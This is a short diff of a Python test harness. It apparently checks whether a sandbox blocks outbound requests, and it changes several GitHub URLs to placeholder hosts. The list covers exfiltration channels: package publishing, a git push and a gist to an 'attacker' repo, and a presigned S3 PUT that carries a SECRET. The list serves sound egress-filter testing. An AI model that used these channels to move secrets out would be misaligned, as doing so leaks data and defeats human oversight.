@@ -37,10 +37,10 @@ for _name, _method, _url in (
     ("publish_to_npm", "PUT", "https://npm.registry.example/evil"),
     ("publish_to_pypi", "POST", "https://upload.packages.example/legacy/"),
     ("publish_to_crates", "PUT", "https://crates.io/api/v1/crates/new"),
-    ("push", "POST", "https://github.com/attacker/repo.git/git-receive-pack"),
-    ("gist", "POST", "https://api.github.com/gists"),
+    ("push", "POST", "https://git.example/attacker/repo.git/git-receive-pack"),
+    ("gist", "POST", "https://api.git.example/gists"),
     ("presigned_url", "PUT", f"https://bucket.s3.amazonaws.com/{SECRET}?X-Amz-Signature=00"),
-    ("graphql_over_get", "GET", "https://api.github.com/graphql?query=mutation%7Bx%7D"),
+    ("graphql_over_get", "GET", "https://api.git.example/graphql?query=mutation%7Bx%7D"),
     ("batch", "POST", "https://www.googleapis.com/batch"),
 ):
     attempt(lambda method=_method, url=_url: call(method, url, b"x" if method != "GET" else None)[0], _name)
